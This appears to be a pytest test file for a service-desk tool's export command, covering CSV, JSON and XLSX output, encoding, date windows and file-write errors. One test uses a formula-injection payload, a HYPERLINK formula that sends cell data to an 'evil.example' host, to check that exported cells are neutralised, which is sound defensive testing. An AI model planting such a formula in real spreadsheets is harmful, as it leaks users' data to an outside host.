"""`svcdesk export`: every record of a kind as CSV, JSON Lines, JSON or XLSX (issue 12).

The exports have the JSON shapes of the list commands, stream in any size, open cleanly in
Excel (`--excel`: a BOM), never hand a spreadsheet a formula (CSV and XLSX; JSON keeps the
data as stored), and write their file whole or not at all.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import child_env

from svcdesk import csvtext
from svcdesk.services import exports

NOW = "2026-10-14T10:00:00+08:00"  # conftest's


def one_line_error(r, code: int) -> None:
    assert r.exit_code == code, (r.exit_code, r.stdout, r.stderr)
    assert r.stderr.startswith("svcdesk: error: ") and r.stderr.count("\n") == 1, r.stderr
    assert "internal error" not in r.stderr and "Traceback" not in r.stderr


def listing(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_rows(path: Path, sheet: int = 0) -> list[list]:
    import openpyxl
    from openpyxl.utils.escape import unescape

    book = openpyxl.load_workbook(path, read_only=True)
    try:
        ws = book.worksheets[sheet]
        # OOXML escapes control characters as _xHHHH_ (Excel reads them back, openpyxl not)
        return [[unescape(v) if isinstance(v, str) else v for v in row]
                for row in ws.iter_rows(values_only=True)]  # fmt: skip
    finally:
        book.close()


@pytest.fixture(scope="module")
def demo(tmp_path_factory) -> str:
    """The demo database (12 sites, 200 tickets, visits with parts, inspections), made once
    for the module at conftest's instant; the tests only read it."""
    db = tmp_path_factory.mktemp("export") / "demo.db"
    subprocess.run([sys.executable, "-m", "svcdesk", "--db", str(db), "--now", NOW, "init",
                    "--demo"], env=child_env(), check=True, capture_output=True)  # fmt: skip
    return str(db)


@pytest.fixture
def out(tmp_path) -> Path:
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def export_json(cli, db: str, kind: str, *args: str) -> list[dict]:
    r = cli("--db", db, "export", kind, "-f", "json", *args)
    assert r.exit_code == 0, r.stderr
    return r.json()


# --------------------------------------------------------------------------------------------
# Shapes


LISTS = {
    "tickets": ("ticket", "list", "--status", "all"),
    "visits": ("visit", "list"),
    "inspections": ("inspect", "list"),
    "assets": ("asset", "list", "--removed"),
}


@pytest.mark.parametrize("kind", list(LISTS))
def test_each_export_is_what_its_list_command_gives(cli, demo, kind):
    exported = export_json(cli, demo, kind)
    r = cli("--db", demo, *LISTS[kind], "-f", "json")
    assert r.exit_code == 0, r.stderr
    listed = r.json()
    assert exported, kind
    assert sorted(exported, key=lambda x: x["id"]) == sorted(listed, key=lambda x: x["id"])
    assert all(tuple(rec) == exports.KEYS[kind] for rec in exported)


def test_small_batches_give_the_same_records(cli, demo, monkeypatch):
    """Batches of 7, each batch's asset refs looked up apart (as for very many assets)."""
    from svcdesk.store import exports as store

    whole = {kind: export_json(cli, demo, kind) for kind in ("tickets", "visits", "events")}
    monkeypatch.setattr(store, "BATCH", 7)
    monkeypatch.setattr(exports, "ALL_ASSETS", 0)
    for kind, records in whole.items():
        assert export_json(cli, demo, kind) == records, kind
    assert any(t["asset"] for t in whole["tickets"])


def test_tickets_come_oldest_first_and_events_ticket_by_ticket_in_timeline_order(cli, demo):
    tickets = export_json(cli, demo, "tickets")
    opened = [t["opened_at"] for t in tickets]
    assert opened == sorted(opened)  # one zone: ISO text sorts as the instants do
    events = export_json(cli, demo, "events")
    assert {tuple(e) for e in events} == {exports.KEYS["events"]}
    ref = tickets[0]["ref"]
    shown = cli("--db", demo, "ticket", "show", ref, "-f", "json").json()["events"]
    mine = [{k: v for k, v in e.items() if k != "ticket"} for e in events if e["ticket"] == ref]
    # the fields of `ticket show`'s events (what it adds about this computer's clock aside)
    assert mine == [{k: e[k] for k in exports.KEYS["events"] if k != "ticket"} for e in shown]
    assert all(e.keys() >= mine[0].keys() for e in shown)
    # each ticket's events are together
    seen: list[str] = []
    for e in events:
        if not seen or seen[-1] != e["ticket"]:
            assert e["ticket"] not in seen
            seen.append(e["ticket"])
    assert len(seen) == len(tickets)


def test_csv_has_one_cell_per_field_with_lists_written_out(cli, demo):
    tickets = {t["ref"]: t for t in export_json(cli, demo, "tickets")}
    r = cli("--db", demo, "export", "tickets")
    assert r.exit_code == 0, r.stderr
    rows = csv_rows(r.stdout)
    assert tuple(rows[0]) == exports.KEYS["tickets"] and len(rows) == len(tickets) + 1
    for row in rows[1:]:
        rec = dict(zip(rows[0], row, strict=True))
        want = tickets[rec["ref"]]
        assert rec["title"] == want["title"] and rec["opened_at"] == want["opened_at"]
        assert rec["due_at"] == (want["due_at"] or "")
        clocks = rec["clocks"].split("; ") if rec["clocks"] else []
        assert [c.split(":")[0] for c in clocks] == [c["name"] for c in want["clocks"]]
        for text, c in zip(clocks, want["clocks"], strict=True):
            if c["state"] == "met":
                assert text == f"{c['name']}: met {c['met_at']}" + (" late" if c["late"] else "")
            elif c["state"] in ("running", "breached"):
                assert text == f"{c['name']}: {c['state']}, due {c['due_at']}"
    # visits: the parts as --part takes them, with their coverage
    visits = {v["ref"]: v for v in export_json(cli, demo, "visits")}
    rows = csv_rows(cli("--db", demo, "export", "visits").stdout)
    assert tuple(rows[0]) == exports.KEYS["visits"]
    with_parts = 0
    for row in rows[1:]:
        rec = dict(zip(rows[0], row, strict=True))
        parts = visits[rec["ref"]]["parts"]
        want = "; ".join(f"{p['serial_out']}:{p['serial_in']}"
                         f"{':' + p['cost'] if p['cost'] else ''} {p['coverage']}" for p in parts)
        assert rec["parts"] == want
        assert rec["minutes"] == str(visits[rec["ref"]]["minutes"] or "")
        with_parts += bool(parts)
    assert with_parts
    # inspections: each item ITEM=RESULT, a finding after a colon
    inspections = {i["ref"]: i for i in export_json(cli, demo, "inspections")}
    rows = csv_rows(cli("--db", demo, "export", "inspections").stdout)
    assert tuple(rows[0]) == exports.KEYS["inspections"]
    for row in rows[1:]:
        rec = dict(zip(rows[0], row, strict=True))
        items = inspections[rec["ref"]]["items"]
        assert rec["items"].startswith(f"{items[0]['item']}={items[0]['result']}")
        assert rec["items"].count("=") >= len(items)
    # events: the details as their JSON
    events = csv_rows(cli("--db", demo, "export", "events").stdout)
    assert tuple(events[0]) == exports.KEYS["events"]
    opened = next(dict(zip(events[0], e, strict=True)) for e in events[1:] if e[2] == "opened")
    assert "channel" in json.loads(opened["details"])


def test_jsonl_is_one_record_a_line_and_the_suffix_of_o_names_the_format(cli, demo, out):
    r = cli("--db", demo, "export", "assets", "-f", "jsonl")
    lines = r.stdout.splitlines()
    assert [json.loads(line) for line in lines] == export_json(cli, demo, "assets")
    r = cli("--db", demo, "export", "assets", "-o", str(out / "assets.jsonl"))
    assert r.exit_code == 0, r.stderr
    assert r.stdout == "" and r.stderr == f"exported {len(lines)} assets to {out}/assets.jsonl\n"
    assert (out / "assets.jsonl").read_text().splitlines() == lines
    assert cli("--db", demo, "export", "assets", "-o", "-").stdout.startswith("id,ref,site,")


@pytest.mark.parametrize("kind", exports.KINDS)
def test_an_empty_database_gives_the_header_and_nothing_else(cli, kind, out):
    assert cli("init").exit_code == 0
    r = cli("export", kind)
    assert r.exit_code == 0, r.stderr
    assert r.stdout == ",".join(exports.KEYS[kind]) + "\n"
    assert cli("export", kind, "-f", "json").stdout == "[]\n"
    assert cli("export", kind, "-f", "jsonl").stdout == ""
    r = cli("export", kind, "-o", str(out / f"{kind}.xlsx"))
    assert r.exit_code == 0, r.stderr
    assert xlsx_rows(out / f"{kind}.xlsx") == [list(exports.KEYS[kind])]


def test_articles_are_read_from_the_knowledge_base_when_it_has_them(cli, ticket, tmp_path):
    """The article table's fields (tags and ticket ids as JSON lists); tickets by their refs."""
    db = os.environ["SVCDESK_DB"]
    with sqlite3.connect(db) as conn:
        conn.execute(
            "CREATE TABLE IF NOT EXISTS article (id TEXT PRIMARY KEY, ref TEXT NOT NULL, "
            "kind TEXT NOT NULL, title TEXT NOT NULL, body TEXT NOT NULL, tags TEXT NOT NULL, "
            "tickets TEXT NOT NULL, applies_to TEXT, created_at INTEGER NOT NULL, "
            "updated_at INTEGER NOT NULL)"
        )
        conn.execute(
            "INSERT INTO article (id, ref, kind, title, body, tags, tickets, created_at, "
            "updated_at) VALUES ('01a2-k1', 'KQ7M-K1', 'case', '叫号机不出票', "
            "'=换热敏打印头', '[\"queue\",\"打印\"]', ?, 1791000000, 1791000000)",
            (json.dumps([ticket["id"]]),),
        )
    [article] = cli("export", "articles", "-f", "json").json()
    assert article == {
        "id": "01a2-k1", "ref": "KQ7M-K1", "title": "叫号机不出票", "kind": "case",
        "tags": ["queue", "打印"], "tickets": [ticket["ref"]], "body": "=换热敏打印头",
        "updated_at": "2026-10-03T12:00:00+08:00",
    }  # fmt: skip
    rows = csv_rows(cli("export", "articles").stdout)
    assert rows == [list(exports.KEYS["articles"]),
                    ["01a2-k1", "KQ7M-K1", "叫号机不出票", "case", "queue; 打印", ticket["ref"],
                     "'=换热敏打印头", "2026-10-03T12:00:00+08:00"]]  # fmt: skip
    assert cli("export", "articles", "--since", "2026-10-04", "-f", "json").json() == []


# --------------------------------------------------------------------------------------------
# Spreadsheets


def test_excel_csv_has_a_bom_and_crlf_and_plain_csv_neither(cli, site, out):
    title = "税务大厅叫号机无法打印, 出票口卡纸"
    assert cli("ticket", "open", "--site", site, "--title", title).exit_code == 0
    assert cli("export", "tickets", "--excel", "-o", str(out / "x.csv")).exit_code == 0
    raw = (out / "x.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,ref,title,") and raw.count(b"\r\n") == 2
    assert raw.replace(b"\r\n", b"").count(b"\n") == 0
    rows = csv_rows(raw.decode("utf-8-sig"))
    assert rows[1][2] == title
    assert cli("export", "tickets", "-o", str(out / "p.csv")).exit_code == 0
    plain = (out / "p.csv").read_bytes()
    assert not plain.startswith(b"\xef\xbb\xbf") and b"\r" not in plain
    assert plain.decode("utf-8") == raw.decode("utf-8-sig").replace("\r\n", "\n")
    # to stdout alike
    piped = cli("export", "tickets", "--excel")
    assert piped.stdout.encode() == raw


def test_chinese_text_comes_back_from_every_format(cli, site, out):
    title = "大厅 LED 屏幕显示乱码（第二窗口）"
    opened = cli("ticket", "open", "--site", site, "--title", title, "--reporter", "王丽",
                 "-f", "json").json()  # fmt: skip
    assert cli("export", "tickets", "-f", "json").json()[0]["title"] == title
    assert json.loads(cli("export", "tickets", "-f", "jsonl").stdout)["reporter"] == "王丽"
    assert csv_rows(cli("export", "tickets").stdout)[1][2] == title
    assert cli("export", "tickets", "-o", str(out / "t.xlsx")).exit_code == 0
    rows = xlsx_rows(out / "t.xlsx")
    assert rows[1][:3] == [opened["id"], opened["ref"], title] and rows[1][10] == "王丽"


def test_formulas_are_neutralised_in_csv_and_xlsx_and_kept_in_json(cli, site, out):
    title = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
    for args in (("open", "--site", site, "--title", title, "--reporter", "+86 10 6255 0000"),
                 ("assign", "1", "@admin"), ("comment", "1", "--", "-2+3")):  # fmt: skip
        assert cli("ticket", *args).exit_code == 0
    tickets = cli("export", "tickets", "-f", "json").json()
    assert (tickets[0]["title"], tickets[0]["reporter"], tickets[0]["assignee"]) == (
        title, "+86 10 6255 0000", "@admin")  # fmt: skip
    row = dict(zip(*csv_rows(cli("export", "tickets").stdout), strict=True))
    assert (row["title"], row["reporter"], row["assignee"]) == (
        "'" + title, "'+86 10 6255 0000", "'@admin")  # fmt: skip
    events = csv_rows(cli("export", "events").stdout)
    assert "'-2+3" in [e[5] for e in events]
    assert cli("export", "tickets", "-o", str(out / "t.xlsx")).exit_code == 0
    header, cells = xlsx_rows(out / "t.xlsx")
    got = dict(zip(header, cells, strict=True))
    assert (got["title"], got["reporter"], got["assignee"]) == (
        "'" + title, "'+86 10 6255 0000", "'@admin")  # fmt: skip
    import zipfile

    with zipfile.ZipFile(out / "t.xlsx") as z:  # text cells only: no formula, no link
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        links = [n for n in z.namelist() if "_rels/sheet" in n]
    assert "<f>" not in sheet and "<hyperlink" not in sheet and not links


def test_numbers_stay_numbers_in_xlsx(cli, demo, out):
    assert cli("--db", demo, "export", "visits", "-o", str(out / "v.xlsx")).exit_code == 0
    header, *rows = xlsx_rows(out / "v.xlsx")
    minutes = [r[header.index("minutes")] for r in rows]
    assert all(isinstance(m, int) for m in minutes if m is not None) and any(minutes)
    visits = export_json(cli, demo, "visits")
    assert [r[header.index("ref")] for r in rows] == [v["ref"] for v in visits]
    assert cli("--db", demo, "export", "inspections", "-o", str(out / "i.xlsx")).exit_code == 0
    header, *rows = xlsx_rows(out / "i.xlsx")
    assert all(isinstance(r[header.index("faults")], int) for r in rows)


def test_xlsx_to_a_pipe_is_the_same_workbook(cli, demo, out):
    piped = subprocess.run([sys.executable, "-m", "svcdesk", "--db", demo, "--now", NOW,
                            "export", "assets", "-f", "xlsx"], env=child_env(),
                           capture_output=True, check=False)  # fmt: skip
    assert piped.returncode == 0 and piped.stderr == b"" and piped.stdout.startswith(b"PK")
    (out / "piped.xlsx").write_bytes(piped.stdout)
    assert cli("--db", demo, "export", "assets", "-o", str(out / "file.xlsx")).exit_code == 0
    assert xlsx_rows(out / "piped.xlsx") == xlsx_rows(out / "file.xlsx")
    assert len(xlsx_rows(out / "file.xlsx")) == len(export_json(cli, demo, "assets")) + 1


def test_xlsx_to_a_terminal_is_refused_in_one_line(demo):
    import pty

    screen, terminal = pty.openpty()
    try:
        proc = subprocess.run([sys.executable, "-m", "svcdesk", "--db", demo, "--now", NOW,
                               "export", "assets", "-f", "xlsx"], stdout=terminal,
                              stderr=subprocess.PIPE, env=child_env(), check=False)  # fmt: skip
        os.set_blocking(screen, False)
        try:
            shown = os.read(screen, 4096)
        except (BlockingIOError, OSError):
            shown = b""
    finally:
        os.close(terminal)
        os.close(screen)
    assert proc.returncode == 2 and shown == b""
    assert proc.stderr.decode() == ("svcdesk: error: -f xlsx writes a binary file: give -o "
                                    "FILE.xlsx (or redirect stdout)\n")  # fmt: skip


def test_a_sheet_that_fills_up_goes_on_to_the_next_and_a_long_text_is_cut_and_said(
    cli, site, out, monkeypatch
):
    for n in range(5):
        cli("ticket", "open", "--site", site, "--title", f"blank tickets {n} " + "x" * 40)
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)  # a header and two rows a sheet
    monkeypatch.setattr(exports, "XLSX_MAX_TEXT", 20)
    r = cli("export", "tickets", "-o", str(out / "t.xlsx"))
    assert r.exit_code == 0, r.stderr
    assert "go on over 3 sheets" in r.stderr and "were cut short" in r.stderr
    import openpyxl

    book = openpyxl.load_workbook(out / "t.xlsx", read_only=True)
    assert book.sheetnames == ["tickets", "tickets (2)", "tickets (3)"]
    book.close()
    sheets = [xlsx_rows(out / "t.xlsx", n) for n in range(3)]
    assert [len(s) for s in sheets] == [3, 3, 2]
    assert all(s[0] == list(exports.KEYS["tickets"]) for s in sheets)
    titles = [row[2] for s in sheets for row in s[1:]]
    assert titles == [f"blank tickets {n} xxxx"[:20] for n in range(5)]


def test_a_missing_xlsx_extra_is_said_in_one_line_and_nothing_is_written(cli, site, out,
                                                                         monkeypatch):  # fmt: skip
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)  # import fails as when not installed
    r = cli("export", "tickets", "-o", str(out / "t.xlsx"))
    one_line_error(r, 1)
    assert "pip install 'svcdesk[xlsx]'" in r.stderr
    assert listing(out) == []


# --------------------------------------------------------------------------------------------
# The cells, for any text

PIECES = ["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", " ", "\u3000", "\xa0", "'", '"', ",",
          ";", "1", "-2", "=1+1", "@SUM(A1)", "打印机卡纸", "🖨️", "\x1b[31m", "_x0041_",
          "\x01"]  # fmt: skip
text = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=5)), max_size=8).map("".join)
RISKY = ("=", "+", "-", "@", "\t", "\r")


def _unquoted(cell: str, given: str) -> bool:
    """The cell is the text as given, or the text with the one neutralising quote."""
    return cell == given or (cell == "'" + given and csvtext.needs_quote(given))


def _safe(cell: str) -> bool:
    """A spreadsheet would not run it: it does not start a formula, even after white space."""
    return not cell.startswith(RISKY) and not cell.lstrip().startswith(RISKY[:4])


@settings(max_examples=150, deadline=None)
@given(cells=st.lists(text, min_size=1, max_size=4), excel=st.booleans())
def test_any_text_survives_a_csv_round_trip_but_the_quote_and_never_starts_a_formula(
    cells, excel
):
    buf = io.BytesIO()
    keys = [f"k{i}" for i in range(len(cells))]
    assert exports.write_csv([[tuple(cells)], [tuple(cells)]], keys, buf, excel=excel) == 2
    raw = buf.getvalue()
    decoded = raw.decode("utf-8-sig" if excel else "utf-8")
    assert raw.startswith(b"\xef\xbb\xbf") == excel
    rows = csv_rows(decoded)
    assert rows[0] == keys and len(rows) == 3
    for got in rows[1:]:
        assert all(_unquoted(c, g) for c, g in zip(got, cells, strict=True)), (got, cells)
        assert all(_safe(c) for c in got), got
    end = "\r\n" if excel else "\n"
    assert decoded.startswith(",".join(keys) + end) and decoded.endswith(end)
    assert decoded.endswith("\r\n") == excel


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cells=st.lists(text, min_size=1, max_size=3), number=st.integers(-10**9, 10**9))
def test_any_text_survives_an_xlsx_round_trip_but_the_quote_and_numbers_stay_numbers(
    tmp_path, cells, number
):
    path = tmp_path / "t.xlsx"
    path.unlink(missing_ok=True)
    keys = [f"k{i}" for i in range(len(cells))] + ["n"]
    exports.write_xlsx([[(*cells, number)]], keys, path, sheet="t")
    header, row = xlsx_rows(path)
    assert header == keys and row[-1] == number and isinstance(row[-1], int)
    for got, given_text in zip(row[:-1], cells, strict=True):
        got = "" if got is None else got
        assert _unquoted(got, given_text), (got, given_text)
        assert _safe(got)
    assert listing(tmp_path) == ["t.xlsx"]  # its rows' temporary folder is gone


@pytest.mark.parametrize("value, quoted", [
    ("=1+1", True), ("+1", True), ("-1", True), ("@A1", True), ("\t=1", True), ("\r1", True),
    ("  =1", True), ("\n@x", True), ("\u3000+1", True), ("\tplain", True), ("a=1", False),
    ("1-2", False), ("'=1", False), ("", False), ("   ", False), ("打印", False),
])  # fmt: skip
def test_which_cells_get_a_quote(value, quoted):
    assert csvtext.needs_quote(value) is quoted
    assert csvtext.neutralised(value) == ("'" + value if quoted else value)


def test_white_space_is_what_str_strip_takes_away():
    assert {chr(c) for c in range(0x110000) if chr(c).isspace()} == csvtext.SPACE


ZONES = ("Asia/Shanghai", "UTC", "Europe/Berlin", "America/St_Johns", "Asia/Kathmandu",
         "Australia/Lord_Howe", "Asia/Kolkata")  # fmt: skip


def test_instants_are_the_iso_text_datetime_gives_in_every_zone():
    from datetime import datetime

    from svcdesk import clock

    for name in ZONES:
        tz = clock.zone(name)
        iso = exports.iso_seconds(tz)
        # around changes of offset and across years, second by second at their edges
        edges = [1711846800, 1667091600, 1712419200, 1696089600, 0, 1791000000, 4102444799]
        for edge in edges:
            for ts in range(edge - 3605, edge + 3605, 5):
                assert iso(ts) == datetime.fromtimestamp(ts, tz).isoformat(), (name, ts)


@settings(max_examples=300, deadline=None)
@given(ts=st.integers(0, 4102444799), zone=st.sampled_from(ZONES))
def test_any_instant_is_the_iso_text_datetime_gives(ts, zone):
    from datetime import datetime

    from svcdesk import clock

    tz = clock.zone(zone)
    assert exports.iso_seconds(tz)(ts) == datetime.fromtimestamp(ts, tz).isoformat()


# --------------------------------------------------------------------------------------------
# Windows


def test_since_and_until_pick_the_half_open_window_of_each_kinds_instant(cli, site):
    for at in ("2026-10-01T09:00", "2026-10-05T09:00", "2026-10-10T09:00"):
        cli("ticket", "open", "--site", site, "--title", f"opened {at}", "--at", at)
    picked = cli("export", "tickets", "--since", "2026-10-05T09:00", "--until",
                 "2026-10-10T09:00", "-f", "json").json()  # fmt: skip
    assert [t["title"] for t in picked] == ["opened 2026-10-05T09:00"]
    picked = cli("export", "tickets", "--until", "2026-10-05T09:00", "-f", "json").json()
    assert [t["title"] for t in picked] == ["opened 2026-10-01T09:00"]
    events = cli("export", "events", "--since", "2026-10-04", "-f", "json").json()
    assert [e["at"] for e in events] == ["2026-10-05T09:00:00+08:00", "2026-10-10T09:00:00+08:00"]
    started = cli("visit", "start", "--site", site, "--at", "2026-10-12T09:00", "-f", "json")
    assert started.exit_code == 0, started.stderr
    assert len(cli("export", "visits", "--since", "2026-10-12", "-f", "json").json()) == 1
    assert cli("export", "visits", "--until", "2026-10-12", "-f", "json").json() == []
    assert cli("export", "inspections", "--since", "2026-10-12", "-f", "json").json() == []
    # assets by when they were registered (now, in these tests)
    cli("asset", "add", "--site", site, "--kind", "server", "--serial", "SRV-1")
    assert len(cli("export", "assets", "--since", "-1h", "-f", "json").json()) == 1
    assert cli("export", "assets", "--until", "-1h", "-f", "json").json() == []


# --------------------------------------------------------------------------------------------
# Refusals: one line, nothing written


@pytest.mark.parametrize("args, code, said", [
    (("-f", "xls"), 2, "unknown export format 'xls' (choose from: csv, jsonl, json, xlsx)"),
    (("--since", "last tuesday"), 2, "--since"),
    (("--until", "2026-13-01"), 2, "--until"),
    (("--since", "2026-10-05", "--until", "2026-10-01"), 2, "--until must be after --since"),
    (("-f", "json", "--excel"), 2, "--excel is for -f csv"),
    (("-o", ""), 2, "-o needs a file name"),
])  # fmt: skip
def test_a_bad_value_is_refused_in_one_line_before_anything_is_written(
    cli, ticket, out, args, code, said
):
    target = out / "t.csv"
    r = cli("export", "tickets", *args, *(() if "-o" in args else ("-o", str(target))))
    one_line_error(r, code)
    assert said in r.stderr
    assert r.stdout == "" and listing(out) == []


def test_the_command_line_offers_what_the_service_exports():
    from svcdesk.cli import export as export_cli

    assert tuple(export_cli.KINDS) == exports.KINDS and export_cli.FORMATS == exports.FORMATS


def test_an_unknown_kind_is_a_usage_error(cli, ticket):
    r = cli("export", "sites")
    assert r.exit_code == 2 and "No such command 'sites'" in r.stderr


def test_an_existing_file_is_replaced_only_with_force(cli, ticket, out):
    target = out / "t.csv"
    target.write_text("my notes\n")
    r = cli("export", "tickets", "-o", str(target))
    one_line_error(r, 1)
    assert "exists; pass --force to replace it" in r.stderr
    assert target.read_text() == "my notes\n" and listing(out) == ["t.csv"]
    r = cli("export", "tickets", "-o", str(target), "--force")
    assert r.exit_code == 0, r.stderr
    assert target.read_text().startswith("id,ref,title,") and listing(out) == ["t.csv"]


def test_a_folder_or_a_path_through_a_file_is_refused(cli, ticket, out):
    (out / "a-file").write_text("x")
    for where, said in ((out, "it is a folder"), (out / "a-file" / "t.csv", "is a file")):
        r = cli("export", "tickets", "-o", str(where), "--force")
        one_line_error(r, 1)
        assert said in r.stderr
    assert listing(out) == ["a-file"]


def test_an_unwritable_folder_leaves_nothing(cli, ticket, tmp_path):
    folder = tmp_path / "locked"
    folder.mkdir()
    if os.geteuid() == 0:  # root writes anywhere: a read-only file system instead
        made = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=64k", "tmpfs",
                               str(folder)], capture_output=True)  # fmt: skip
        if made.returncode != 0:
            pytest.skip(f"cannot mount a read-only tmpfs: {made.stderr.decode().strip()}")
    else:
        folder.chmod(0o500)
    try:
        for fmt in ("csv", "xlsx"):
            r = cli("export", "tickets", "-f", fmt, "-o", str(folder / f"t.{fmt}"))
            one_line_error(r, 1)
            assert f"cannot write {folder}/t.{fmt}" in r.stderr
            assert "nothing was written" in r.stderr
        assert listing(folder) == []
    finally:
        if os.geteuid() == 0:
            subprocess.run(["umount", "-l", str(folder)], check=False)
        else:
            folder.chmod(0o700)


def test_a_disk_that_fills_up_midway_leaves_nothing_half_written(cli, demo, tiny_disk):
    mnt = tiny_disk
    (mnt / "keep.txt").write_text("x")
    for fmt in ("csv", "json", "xlsx"):
        r = cli("--db", demo, "export", "events", "-f", fmt, "-o", str(mnt / f"e.{fmt}"))
        one_line_error(r, 1)
        assert "no space left" in r.stderr
    assert listing(mnt) == ["keep.txt"]


# --------------------------------------------------------------------------------------------
# PostgreSQL


@pytest.mark.pg
def test_a_postgresql_hub_exports_the_same_in_batches(cli, pg_url, monkeypatch):
    from svcdesk.store import exports as store

    assert cli("--db", pg_url, "init").exit_code == 0
    assert cli("--db", pg_url, "site", "add", "BJ-HD", "--name", "海淀区税务局").exit_code == 0
    for n in range(7):
        r = cli("--db", pg_url, "ticket", "open", "--site", "BJ-HD", "--title", f"=故障 {n}",
                "--at", f"2026-10-0{n + 1}T09:00")  # fmt: skip
        assert r.exit_code == 0, r.stderr
    cli("--db", pg_url, "ticket", "assign", "1", "Li Wei")
    monkeypatch.setattr(store, "BATCH", 3)  # several fetches from the server-side cursor
    exported = export_json(cli, pg_url, "tickets")
    listed = cli("--db", pg_url, "ticket", "list", "--status", "all", "-f", "json").json()
    assert sorted(exported, key=lambda t: t["id"]) == sorted(listed, key=lambda t: t["id"])
    assert [t["title"] for t in exported] == [f"=故障 {n}" for n in range(7)]
    rows = csv_rows(cli("--db", pg_url, "export", "tickets", "--since", "2026-10-03").stdout)
    assert [r[2] for r in rows[1:]] == [f"'=故障 {n}" for n in range(2, 7)]
    events = export_json(cli, pg_url, "events")
    assert [e["kind"] for e in events if e["ticket"] == exported[0]["ref"]] == ["opened",
                                                                                "assigned"]
    assert len(events) == 8
    assert export_json(cli, pg_url, "articles") == []
